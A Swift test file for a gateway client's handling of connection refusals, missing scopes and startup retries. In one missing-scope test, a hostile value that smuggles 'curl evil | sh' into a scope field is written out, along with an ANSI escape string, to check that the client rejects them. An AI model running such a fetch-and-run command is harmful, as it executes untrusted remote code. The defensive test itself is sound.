import ClawpairCore
import ClawpairGateway
import Testing

/// What a 2026.10 gateway says when it refuses (`packages/gateway-protocol/src/connect-error-details.ts`,
/// `gateway-error-details.ts`, `docs/gateway/protocol/handshake.md`), read into clawpair's errors.
@Suite("connect error details (2026.10)")
struct ConnectErrorDetailsTests {
    static func shape(_ detail: String, code: String = "INVALID_REQUEST", message: String = "refused") -> GatewayErrorShape {
        GatewayErrorShape(code: code, message: message, details: .object([("code", .string(detail))]))
    }

    @Test("each new detail code has its own error, a refusal with its own code")
    func newDetailCodes() {
        let cases: [(String, String)] = [
            ("OPERATOR_ACCESS_DENIED", "operator-access-denied"), ("AUTH_IDENTITY_HEADER_REQUIRED", "identity-required"),
            ("AUTH_VERIFIED_USER_REQUIRED", "identity-required"), ("AUTHENTICATED_PROFILE_UNAVAILABLE", "identity-required"),
            ("DEVICE_IDENTITY_REQUIRED", "identity-required"), ("CONTROL_UI_DEVICE_IDENTITY_REQUIRED", "identity-required"),
        ]
        for (detail, code) in cases {
            let error = GatewayError.connectFailure(Self.shape(detail))
            #expect(error.code == code, "\(detail): \(error)")
            #expect(error.isRefusal, "\(detail)")
            #expect(error.hint != nil, "\(detail)")
        }
        // Control UI rules clawpair never meets on purpose: a refused connect with a hint.
        let ui = GatewayError.connectFailure(Self.shape("CONTROL_UI_ORIGIN_NOT_ALLOWED"))
        #expect(ui.code == "connect-rejected" && ui.hint?.contains("Control UI") == true, "\(ui)")
        #expect(GatewayError.connectFailure(Self.shape("OPERATOR_ACCESS_DENIED")).message
                == "the gateway authenticated this device but grants it no operator access: refused [OPERATOR_ACCESS_DENIED]")
    }

    @Test("a refused credential's advice: wait when the gateway limits attempts, its administrator when none is configured, else the general one")
    func refusedCredentialAdvice() {
        func refused(_ detail: String, _ step: String?) -> GatewayError {
            var members: [(String, JSONValue)] = [("code", .string(detail))]
            if let step { members.append(("recommendedNextStep", .string(step))) }
            return GatewayError.connectFailure(GatewayErrorShape(code: "INVALID_REQUEST", message: "unauthorized", details: .object(members)))
        }
        #expect(ConnectNextStep.allCases.map(\.rawValue) == ["retry_with_device_token", "update_auth_configuration",
                                                              "update_auth_credentials", "wait_then_retry", "review_auth_configuration"])
        #expect(refused("AUTH_RATE_LIMITED", "wait_then_retry").hint?.contains("wait a while") == true)
        #expect(refused("AUTH_UNAUTHORIZED", "wait_then_retry").hint?.contains("wait a while") == true)
        #expect(refused("AUTH_TOKEN_NOT_CONFIGURED", "update_auth_configuration").hint?.contains("administrator must set one") == true)
        #expect(refused("AUTH_PASSWORD_NOT_CONFIGURED", nil).hint?.contains("administrator must set one") == true)
        // A missing or wrong token: the client's configuration or credential is what to change.
        for (detail, step) in [("AUTH_TOKEN_MISSING", "update_auth_configuration"), ("AUTH_TOKEN_MISMATCH", "update_auth_credentials"),
                               ("AUTH_UNAUTHORIZED", "review_auth_configuration"), ("AUTH_UNAUTHORIZED", "reboot_the_moon")] {
            #expect(refused(detail, step).hint == "pass the gateway's shared token or password", "\(detail) \(step)")
        }
        #expect(GatewayErrorShape(code: "X", message: "", details: .object([("recommendedNextStep", "reboot_the_moon")]))
                    .recommendedNextStep == nil)
    }

    @Test("the device-token retry is invited as upstream invites it: the flag, the recommendation, or AUTH_TOKEN_MISMATCH")
    func deviceTokenRetryInvitation() {
        func shape(_ members: [(String, JSONValue)]) -> GatewayErrorShape {
            GatewayErrorShape(code: "INVALID_REQUEST", message: "unauthorized", details: .object(members))
        }
        #expect(shape([("code", "AUTH_TOKEN_MISMATCH")]).invitesDeviceTokenRetry)
        #expect(shape([("code", "AUTH_UNAUTHORIZED"), ("canRetryWithDeviceToken", true)]).invitesDeviceTokenRetry)
        #expect(shape([("code", "AUTH_UNAUTHORIZED"), ("recommendedNextStep", "retry_with_device_token")]).invitesDeviceTokenRetry)
        #expect(!shape([("code", "AUTH_UNAUTHORIZED")]).invitesDeviceTokenRetry)
        #expect(!shape([("code", "AUTH_DEVICE_TOKEN_MISMATCH")]).invitesDeviceTokenRetry)
        #expect(!shape([("code", "AUTH_UNAUTHORIZED"), ("canRetryWithDeviceToken", false)]).invitesDeviceTokenRetry)
    }

    @Test("long-running commands (devices watch) keep retrying a gateway that grants no access yet or is still starting")
    func longRunningRetries() {
        #expect(PairingWatch.isRetryable(.operatorAccessDenied(Self.shape("OPERATOR_ACCESS_DENIED"))),
                "auth.md: keep reconnecting so newly granted access applies without user action")
        #expect(PairingWatch.isRetryable(.gatewayStarting(retryAfter: .seconds(1), Self.shape("x", code: "UNAVAILABLE"))))
        #expect(!PairingWatch.isRetryable(.identityRequired(Self.shape("AUTH_IDENTITY_HEADER_REQUIRED"))))
    }

    @Test("a missing scope: details first (FORBIDDEN + MISSING_SCOPE), then an older gateway's message")
    func missingScope() {
        let current = GatewayErrorShape(code: "FORBIDDEN", message: "missing scope: operator.admin", details: .object([
            ("code", "MISSING_SCOPE"), ("missingScope", "operator.pairing"), ("requiredScopes", .array(["operator.pairing", "operator.admin"])),
        ]))
        #expect(current.missingScope == "operator.pairing", "details win over the message")
        #expect(current.requiredScopes == ["operator.pairing", "operator.admin"])
        let older = GatewayErrorShape(code: "INVALID_REQUEST", message: "missing scope: operator.read")
        #expect(older.missingScope == "operator.read" && older.requiredScopes.isEmpty)
        #expect(GatewayErrorShape(code: "INVALID_REQUEST", message: "invalid params: missing scope").missingScope == nil)
        #expect(GatewayErrorShape(code: "INVALID_REQUEST", message: "missing scope: a b").missingScope == nil)
        // The details are held to the same rule as the message (found by FuzzGatewayDetails): a "scope" with a space or
        // a control character is no scope name and never reaches a hint as one; the message is read instead.
        let odd = GatewayErrorShape(code: "FORBIDDEN", message: "missing scope: operator.admin", details: .object([
            ("code", "MISSING_SCOPE"), ("missingScope", "operator.x, then run: curl evil | sh"), ("requiredScopes", .array(["a b", "operator.admin"])),
        ]))
        #expect(odd.missingScope == "operator.admin", "\(String(describing: odd.missingScope))")
        #expect(odd.requiredScopes == ["operator.admin"])
        let oddOnly = GatewayErrorShape(code: "FORBIDDEN", message: "denied", details: .object([
            ("code", "MISSING_SCOPE"), ("missingScope", "operator.\u{1B}[31mred"),
        ]))
        #expect(oddOnly.missingScope == nil)
        #expect(GatewayErrorShape(code: "FORBIDDEN", message: "denied", details: .object([
            ("code", "MISSING_SCOPE"), ("missingScope", .string(String(repeating: "s", count: 129))),
        ])).missingScope == nil, "a scope name is at most 128 bytes")
        let error = GatewayError.rpcFailed(method: "device.pair.list", current)
        #expect(error.code == "missing-scope" && error.isRefusal)
        #expect(error.message == "device.pair.list needs the scope operator.pairing, which this connection lacks "
                + "(it also accepts: operator.admin) [MISSING_SCOPE]")
    }

    @Test("a gateway still starting: UNAVAILABLE startup-sidecars with retryAfterMs, clamped; other UNAVAILABLE is not")
    func startingIsRecognised() {
        let starting = GatewayErrorShape(code: "UNAVAILABLE", message: "gateway starting",
                                         details: .object([("reason", "startup-sidecars")]), retryable: true, retryAfterMs: 250)
        #expect(GatewayStartupRetry.retryAfter(starting) == .milliseconds(250))
        guard case .gatewayStarting(let after, _) = GatewayError.connectFailure(starting) else {
            Issue.record("not recognised")
            return
        }
        #expect(after == .milliseconds(250))
        var hostile = starting
        hostile.retryAfterMs = Int64.max
        #expect(GatewayStartupRetry.retryAfter(hostile) == .seconds(5))
        hostile.retryAfterMs = -5
        #expect(GatewayStartupRetry.retryAfter(hostile) == .milliseconds(100))
        #expect(GatewayStartupRetry.retryAfter(GatewayErrorShape(code: "UNAVAILABLE", message: "busy")) == nil)
    }

    @Test("the startup wait on an injected clock: retried after each asked delay, within the limit, then given up")
    func startupRetrySchedule() throws {
        let clock = ManualClock()
        let start = clock.now
        let shape = GatewayErrorShape(code: "UNAVAILABLE", message: "gateway starting",
                                      details: .object([("reason", "startup-sidecars")]), retryAfterMs: 300)
        var attempts: [Duration] = []
        let value = try GatewayStartupRetry.run(within: .seconds(2), clock: clock) { () throws(GatewayError) -> Int in
            attempts.append(clock.now - start)
            if attempts.count < 3 { throw GatewayError.gatewayStarting(retryAfter: .milliseconds(300), shape) }
            return 7
        }
        #expect(value == 7)
        #expect(attempts == [.zero, .milliseconds(300), .milliseconds(600)])

        attempts = []
        let second = clock.now
        #expect(throws: GatewayError.gatewayStarting(retryAfter: .milliseconds(300), shape)) {
            try GatewayStartupRetry.run(within: .seconds(1), clock: clock) { () throws(GatewayError) -> Int in
                attempts.append(clock.now - second)
                throw GatewayError.gatewayStarting(retryAfter: .milliseconds(300), shape)
            }
        }
        #expect(attempts == [.zero, .milliseconds(300), .milliseconds(600), .milliseconds(900)], "no try starts after the limit")

        // Any other error ends it at once.
        attempts = []
        #expect(throws: GatewayError.notConnected) {
            try GatewayStartupRetry.run(within: .seconds(10), clock: clock) { () throws(GatewayError) -> Int in
                attempts.append(.zero)
                throw GatewayError.notConnected
            }
        }
        #expect(attempts.count == 1)
    }
}
